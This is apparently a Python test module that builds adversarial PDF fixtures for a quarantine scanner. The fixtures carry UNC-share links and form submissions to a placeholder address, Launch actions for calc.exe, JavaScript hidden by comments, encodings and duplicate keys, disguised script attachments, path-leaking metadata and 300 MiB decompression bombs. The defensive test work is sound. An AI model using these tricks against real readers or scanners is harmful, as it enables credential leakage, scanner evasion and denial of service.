"""PDFs on which two readers disagree, or whose danger lies where only one of them looks: one trick each.

The small files of `vectors/quarantine/pdf/` were made by hand for this project; their siblings are made here.
"""

import base64
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Final

from pypdf._codecs._codecs import LzwCodec

from tests.builders.jpeg_files import jpeg
from tests.builders.pdf_files import (
    FLATE,
    JS,
    annotation,
    deflated,
    encrypted,
    pdf,
    revised,
    stream,
    with_object_stream,
)

TRICKS: Final[dict[str, Callable[[], bytes]]] = {}
FILES: Final = Path(__file__).parents[1] / "vectors/quarantine/pdf"
SHARE: Final = b"\\\\\\\\192.0.2.1\\\\share\\\\a.pdf"


def trick(make: Callable[[], bytes]) -> Callable[[], bytes]:
    TRICKS[make.__name__] = make
    return make


for _file in sorted(FILES.glob("*.pdf")):
    TRICKS[_file.stem] = _file.read_bytes


def link(action: bytes) -> bytes:
    return annotation(b"/Subtype /Link /A << " + action + b" >>")


def named(names: bytes, content: bytes = b"hello\n", tree_key: bytes = b"(a)") -> bytes:
    """An attachment with these names in its file specification."""
    spec = b"<< /Type /Filespec " + names + b" /EF << /F 7 0 R >> >>"
    tree = b"/Names << /EmbeddedFiles << /Names [" + tree_key + b" 6 0 R] >> >>"
    return pdf(tree, spec, deflated(content, b"/Type /EmbeddedFile"))


# Paths.


@trick
def p41_limit_gotor_unc() -> bytes:
    many = b"/X [" + b"0 " * 100_001 + b"]"
    return annotation(b"/Subtype /Link /A << /S /GoToR /D [0 /Fit] /F (" + SHARE + b") >> " + many)


@trick
def thread_of_a_share_on_a_click() -> bytes:
    return link(b"/S /Thread /F (" + SHARE + b") /D 0")


@trick
def destination_of_a_share_in_goto() -> bytes:
    return pdf(b"/OpenAction << /S /GoTo /F << /Type /Filespec /UF (" + SHARE + b") >> /D [0 /Fit] >>")


@trick
def reference_xobject_of_a_share() -> bytes:
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Ref << /F (" + SHARE + b") /Page 0 >>"
    return pdf(b"", stream(b"", form))


@trick
def reference_xobject_online() -> bytes:
    return pdf(b"", stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Ref << /F (http://192.0.2.1/a) >>"))


@trick
def prepress_picture_of_a_share() -> bytes:
    return pdf(b"", stream(b"", b"/Subtype /Form /OPI << /1.3 << /Type /OPI /Version 1.3 /F (" + SHARE + b") >> >>"))


@trick
def prepress_picture_of_version_2() -> bytes:
    return pdf(b"", stream(b"", b"/Subtype /Form /OPI << /2.0 << /Type /OPI /F << /F (" + SHARE + b") >> >> >>"))


@trick
def share_before_all_links() -> bytes:
    return pdf(b"/URI << /Base (smb://192.0.2.1/share/) >>", b"<< /S /URI /URI (a.html) >>")


@trick
def share_behind_a_local_path() -> bytes:
    return link(b"/S /GoToR /D [0 /Fit] /F << /Type /Filespec /F (a.pdf) /UF (" + SHARE + b") >>")


@trick
def share_for_one_system() -> bytes:
    return link(b"/S /GoToR /D [0 /Fit] /F << /Type /Filespec /F (a.pdf) /DOS (" + SHARE + b") >>")


@trick
def share_of_a_specification_alone() -> bytes:
    return pdf(b"", b"<< /Type /Filespec /F (" + SHARE + b") >>")


@trick
def share_with_slashes() -> bytes:
    return link(b"/S /URI /URI (//192.0.2.1/share/a)")


@trick
def share_as_a_file_address() -> bytes:
    return link(b"/S /URI /URI (file:////192.0.2.1/share/a)")


@trick
def share_as_an_escaped_file_address() -> bytes:
    return link(b"/S /URI /URI (file:///%5c%5c192.0.2.1%5cshare)")


@trick
def share_behind_localhost() -> bytes:
    return link(b"/S /URI /URI (file://localhost//192.0.2.1/share)")


@trick
def share_mounted_by_itself() -> bytes:
    return link(b"/S /URI /URI (file:///net/192.0.2.1/share)")


@trick
def share_of_the_web() -> bytes:
    return link(b"/S /URI /URI (dav://192.0.2.1/share)")


@trick
def program_of_this_machine() -> bytes:
    return link(b"/S /URI /URI (file:///C:/Windows/System32/calc.exe)")


@trick
def document_of_this_machine() -> bytes:
    return link(b"/S /GoToR /D [0 /Fit] /F (C:\\\\Users\\\\anna\\\\a.pdf)")


@trick
def document_of_this_machine_two_slashes() -> bytes:
    return link(b"/S /URI /URI (file://C:/Users/anna/a.docx)")


@trick
def document_of_a_unix_home() -> bytes:
    return link(b"/S /URI /URI (file:///home/anna/a.odt)")


# Attachments by name.


@trick
def attached_shortcut_by_name() -> bytes:
    return named(b"/F (invoice.url) /UF (invoice.url)", b"hello\n")


@trick
def attached_script_named_in_unicode_only() -> bytes:
    return named(b"/F (a.txt) /UF <FEFF0061002E006A0073>")


@trick
def attached_script_named_for_one_system() -> bytes:
    return named(b"/F (a.txt) /DOS (a.vbs)")


@trick
def attached_script_named_in_the_tree() -> bytes:
    return named(b"/F (a.txt)", tree_key=b"(a.hta)")


@trick
def attached_script_with_a_document_name_before() -> bytes:
    return named(b"/F (a.pdf                        .wsf)")


@trick
def attached_script_of_an_annotation() -> bytes:
    annot = b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (a.cmd) /EF << /F 7 0 R >> >> >>"
    return pdf(b"", annot, deflated(b"calc\n", b"/Type /EmbeddedFile"), page=b"/Annots [6 0 R]")


# What identifies.


@trick
def attachment_from_a_home_folder() -> bytes:
    return named(b"/F (/home/anna/notes.txt) /UF (C:\\\\Users\\\\anna\\\\notes.txt)")


@trick
def title_of_a_word_file() -> bytes:
    return pdf(b"", b"<< /Title (C:\\\\Users\\\\anna\\\\report.docx) >>", trailer=b"/Info 6 0 R")


@trick
def subject_with_a_path_inside() -> bytes:
    return pdf(b"", b"<< /Subject (Microsoft Word - /home/anna/report.docx) >>", trailer=b"/Info 6 0 R")


@trick
def xmp_title_with_a_path() -> bytes:
    xmp = b"<x:xmpmeta><dc:title>file:///Users/anna/a.html</dc:title></x:xmpmeta>"
    return pdf(b"/Metadata 6 0 R", stream(xmp, b"/Type /Metadata /Subtype /XML"))


# Names.


def in_object_stream(*objects: bytes, catalog: bytes = b"", entries: bytes = b"") -> bytes:
    return with_object_stream(*objects, encode=zlib.compress, entries=FLATE + entries, catalog=catalog)


def without_cross_reference(catalog: bytes) -> bytes:
    return b"%PDF-1.4\ntrailer<</Root<</Pages<<>>" + catalog + b">>>>"


@trick
def javascript_name_in_an_object_stream() -> bytes:
    return in_object_stream(b"/JavaScript", catalog=b"/OpenAction << /S /GoTo /Next << /S 6 0 R >> >>")


@trick
def launch_name_in_an_object_stream_behind_a_decoy() -> bytes:
    return in_object_stream(b"[1]", b"/Launch", entries=b" /X (1 0 obj) /Y (endobj) ")


@trick
def import_name_in_an_object_stream() -> bytes:
    return in_object_stream(b"/ImportData")


@trick
def javascript_behind_a_long_comment() -> bytes:
    return without_cross_reference(b"/OpenAction<</S %" + b"c" * 700 + b"\n/JavaScript/X(x)>>")


@trick
def javascript_key_alone() -> bytes:
    return without_cross_reference(b"/OpenAction<</S 5 0 R/JS(x)>>")


@trick
def javascript_key_behind_a_comment() -> bytes:
    return without_cross_reference(b"/OpenAction<</S//JS%" + b"c" * 300 + b"\n(x)>>")


@trick
def launch_without_cross_reference() -> bytes:
    return without_cross_reference(b"/OpenAction<</S%\n/L#61unch/F(calc.exe)>>")


@trick
def remote_path_without_cross_reference() -> bytes:
    return without_cross_reference(b"/OpenAction<</S/GoToR/F(" + SHARE + b")>>")


@trick
def form_sent_without_cross_reference() -> bytes:
    return without_cross_reference(b"/OpenAction<</S%\n/SubmitForm/F(http://192.0.2.1/)>>")


@trick
def objects_in_a_stream_without_a_type() -> bytes:
    return pdf(b"", deflated(b"9 0 << /S /Launch /F (calc.exe) >>", b"/N 1"))


@trick
def javascript_in_a_stream_that_claims_to_be_text() -> bytes:
    return pdf(b"", deflated(b"<< /S /J#61vaScript /J#53 (x) >>", b"/Type /Metadata"))


@trick
def paper_about_pdfs() -> bytes:
    content = b"BT (An action /JavaScript has a key /JS \\(a text\\), /Launch a key /F) Tj ET"
    info = b"<< /Title (On /JavaScript and /Launch) >>"
    return pdf(b"", info, deflated(content), stream(content), trailer=b"/Info 6 0 R")


# Earlier revisions.


@trick
def attachment_of_an_earlier_revision_without_type() -> bytes:
    return revised(named(b"/F (a.bin)", b"MZ" + bytes(100)), 7, deflated(b"hello\n", b"/Type /EmbeddedFile"))


# Two readings.


def _index(one: int, other: int, first: bytes) -> bytes:
    return b"%d 0 %d %d " % (one, other, len(first) + 1)


def two_members(one: int, other: int, first: bytes, second: bytes, catalog: bytes = b"") -> bytes:
    """An object stream whose index has these two numbers, while the cross-reference knows 6 and 7."""

    def encode(content: bytes) -> bytes:
        index = _index(6, 7, first)
        return zlib.compress(_index(one, other, first) + content.removeprefix(index))

    return with_object_stream(first, second, encode=encode, entries=FLATE, catalog=catalog)


@trick
def opening_action_twice() -> bytes:
    return pdf(b"/OpenAction [3 0 R /Fit] /OpenAction << /S /URI /URI (https://192.0.2.1/) >>")


@trick
def key_twice_with_an_escape() -> bytes:
    return link(b"/S /GoTo /D [3 0 R /Fit] /#53 /GoToR /F (" + SHARE + b")")


@trick
def path_twice() -> bytes:
    return link(b"/S /GoToR /D [0 /Fit] /F (a.pdf) /F (" + SHARE + b")")


@trick
def attachment_name_twice() -> bytes:
    return named(b"/F (a.txt) /F (a.exe)")


@trick
def attachment_twice() -> bytes:
    spec = b"<< /Type /Filespec /F (a.txt) /EF << /F 7 0 R >> /EF << /F 8 0 R >> >>"
    tree = b"/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>"
    return pdf(tree, spec, deflated(b"hello\n", b"/Type /EmbeddedFile"), deflated(b"MZ" + bytes(90)))


@trick
def contents_twice() -> bytes:
    return pdf(b"", stream(b"BT (Another page) Tj ET"), page=b"/Contents 6 0 R ")


@trick
def key_twice_in_an_object_stream() -> bytes:
    action = b"<< /S /GoTo /S 7 0 R /F (calc.exe) >>"
    return in_object_stream(action, b"/Launch", catalog=b"/OpenAction 6 0 R")


@trick
def key_twice_in_an_array() -> bytes:
    return pdf(b"/OpenAction << /S /GoTo /Next [<< /S /Named /S /Launch /F (calc.exe) >>] >>")


@trick
def key_twice_with_the_same_value() -> bytes:
    return pdf(b"/Lang (nb) /Lang (nb)")


@trick
def root_twice() -> bytes:
    return pdf(b"", b"<< /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R >>", JS, trailer=b"/Root 6 0 R")


@trick
def number_twice_in_an_object_stream() -> bytes:
    return two_members(6, 6, b"<< /A 1 >>", b"<< /S /URI /URI (" + SHARE + b") >>", catalog=b"/OpenAction 6 0 R")


@trick
def places_exchanged_in_an_object_stream() -> bytes:
    return two_members(7, 6, b"<< /S /GoTo >>", b"<< /S /URI /URI (a:b) >>", catalog=b"/OpenAction 6 0 R")


@trick
def member_that_nothing_names() -> bytes:
    return two_members(6, 9, b"<< /A 1 >>", b"<< /S /GoToR /F (" + SHARE + b") >>")


@trick
def object_twice_in_one_revision() -> bytes:
    twice = b"4 0 obj\n" + stream(b"BT (Another page) Tj ET") + b"\nendobj\nxref\n0 6"
    return pdf().replace(b"xref\n0 6", twice)


@trick
def object_of_an_earlier_revision_named() -> bytes:
    base = pdf(b"", b"<< /S /GoTo /D [3 0 R /Fit] >>")
    place = base.index(b"6 0 obj")
    changed = revised(base, 6, b"<< /S /GoToR /F (" + SHARE + b") >>")
    return changed.replace(b"xref\n6 1\n%010d" % len(base), b"xref\n6 1\n%010d" % place)


@trick
def share_in_an_earlier_revision() -> bytes:
    base = pdf(b"", b"<< /Type /Filespec /F (" + SHARE + b") >>")
    return revised(base, 6, b"<< /Type /Filespec /F (a.pdf) >>")


@trick
def share_in_an_object_that_nothing_names() -> bytes:
    lost = b"99 0 obj\n<< /Type /Filespec /F (" + SHARE + b") >>\nendobj\nxref\n0 6"
    return pdf().replace(b"xref\n0 6", lost)


@trick
def share_behind_a_value_that_cannot_be_read() -> bytes:
    return annotation(b"/Subtype /Link /X <zz> /Y 1 1 /A << /S /GoToR /D [0 /Fit] /F (" + SHARE + b") >>")


@trick
def share_in_an_object_nested_too_deeply() -> bytes:
    return pdf(b"", b"<< /F (" + SHARE + b") /X " + b"[" * 5000 + b"]" * 5000 + b" >>")


@trick
def opening_action_of_another_catalog() -> bytes:
    lost = b"99 0 obj\n<< /Type /Catalog /OpenAction << /S /URI /URI (http://192.0.2.1/) >> >>\nendobj\nxref\n0 6"
    return pdf().replace(b"xref\n0 6", lost)


@trick
def two_documents_by_offsets() -> bytes:
    """A cross-reference is found from the file's beginning, and one of another catalog from the header."""
    header = b"junk\n".ljust(400, b"-") + b"\n%PDF-1.7\n"
    content = pdf(b"/Lang (one)", b"<< /Type /Catalog /Pages 2 0 R /Lang (two) >>", header=header)
    start = int(content.rsplit(b"startxref\n", 1)[1].split()[0])
    table = content[start:].split(b"startxref")[0].ljust(header.index(b"%PDF"))
    other = b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 7 /Root 6 0 R >>\n"
    return content[:start] + table + other + b"startxref\n%d\n%%%%EOF\n" % start


@trick
def object_whose_number_is_hidden_by_a_comment() -> bytes:
    body = b"<< /Type /Filespec /F (" + SHARE + b") /X " + b"[" * 5000 + b"]" * 5000 + b" >>"
    return pdf(b"", body).replace(b"6 0 obj", b"6 %" + b"c" * 300 + b"\n0 obj")


# Filters.

GPS: Final = jpeg(gps=True)
PICTURE: Final = b"/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceRGB "


def bomb(size: int, *layers: Callable[[bytes], bytes]) -> bytes:
    """`size` MiB of zeros, deflated, and then in these layers."""
    deflater = zlib.compressobj(9)
    piece = bytes(1024 * 1024)
    content = b"".join(deflater.compress(piece) for _ in range(size)) + deflater.flush()
    for layer in layers:
        content = layer(content)
    return content


def in_hex(content: bytes) -> bytes:
    return content.hex().encode() + b">"


def in_base_85(content: bytes) -> bytes:
    return base64.a85encode(content, wrapcol=72) + b"~>"


def in_runs(content: bytes) -> bytes:
    pieces = (content[at : at + 128] for at in range(0, len(content), 128))
    return b"".join(bytes((len(piece) - 1,)) + piece for piece in pieces) + b"\x80"


def in_lzw(content: bytes) -> bytes:
    return LzwCodec().encode(content)


@trick
def p57c_bomb_in_hex() -> bytes:
    return pdf(b"", stream(bomb(300, in_hex), b"/Filter [/ASCIIHexDecode /FlateDecode]"))


@trick
def bomb_in_base_85() -> bytes:
    return pdf(b"", stream(bomb(300, in_base_85), b"/Filter [/A85 /Fl]"))


@trick
def bomb_in_hex_with_junk() -> bytes:
    return pdf(b"", stream(bomb(300, in_hex).replace(b"0000", b"0x0 00", 1), b"/Filter [/AHx /FlateDecode]"))


@trick
def bomb_behind_an_indirect_filter() -> bytes:
    return pdf(b"", stream(bomb(300, in_hex), b"/Filter 7 0 R"), b"[/ASCIIHexDecode /FlateDecode]")


@trick
def bomb_under_encryption_without_password() -> bytes:
    return encrypted(pdf(b"/X 6 0 R", stream(bomb(300), b"/Filter /FlateDecode")), user="", owner="x")


@trick
def two_layers_behind_a_reference() -> bytes:
    inner = zlib.compress(zlib.compress(bytes(1000)))
    return pdf(b"", stream(inner, b"/Filter 7 0 R"), b"[/FlateDecode /FlateDecode]")


@trick
def launch_in_a_stream_in_hex() -> bytes:
    content = in_hex(zlib.compress(b"9 0 << /S /Launch /F (calc.exe) >>"))
    return pdf(b"", stream(content, b"/Filter [/ASCIIHexDecode /FlateDecode]"))


@trick
def launch_in_a_stream_in_base_85() -> bytes:
    return pdf(b"", stream(in_base_85(b"9 0 << /S /Launch /F (calc.exe) >>"), b"/Filter /ASCII85Decode"))


@trick
def launch_in_a_stream_of_runs() -> bytes:
    return pdf(b"", stream(in_runs(b"9 0 << /S /Launch /F (calc.exe) >>"), b"/Filter /RunLengthDecode"))


@trick
def launch_in_a_stream_of_lzw() -> bytes:
    return pdf(b"", stream(in_lzw(b"9 0 << /S /Launch /F (calc.exe) >>"), b"/Filter /LZWDecode"))


@trick
def launch_in_a_stream_under_encryption() -> bytes:
    return encrypted(pdf(b"/X 6 0 R", deflated(b"9 0 << /S /Launch /F (calc.exe) >>")), user="", owner="x")


@trick
def stream_of_a_filter_that_is_not_known() -> bytes:
    return pdf(b"", stream(b"hello", b"/Filter /BrotliDecode"))


@trick
def photograph_in_hex() -> bytes:
    return pdf(b"", stream(in_hex(GPS), PICTURE + b"/Filter [/ASCIIHexDecode /DCTDecode]"))


@trick
def photograph_in_base_85() -> bytes:
    return pdf(b"", stream(in_base_85(GPS), PICTURE + b"/Filter [/A85 /DCT]"))


@trick
def photograph_of_runs() -> bytes:
    return pdf(b"", stream(in_runs(GPS), PICTURE + b"/Filter [/RunLengthDecode /DCTDecode]"))


@trick
def photograph_in_lzw() -> bytes:
    return pdf(b"", stream(in_lzw(GPS), PICTURE + b"/Filter [/LZWDecode /DCTDecode]"))


@trick
def photograph_deflated_under_encryption() -> bytes:
    content = stream(zlib.compress(GPS), PICTURE + b"/Filter [/FlateDecode /DCTDecode]")
    return encrypted(pdf(b"/X 6 0 R", content), user="", owner="x")


@trick
def ordinary_streams_in_base_85() -> bytes:
    picture = stream(in_base_85(zlib.compress(bytes(192))), PICTURE + b"/Filter [/ASCII85Decode /FlateDecode]")
    return pdf(b"", stream(in_base_85(zlib.compress(b"BT (A page) Tj ET")), b"/Filter [/A85 /Fl]"), picture)
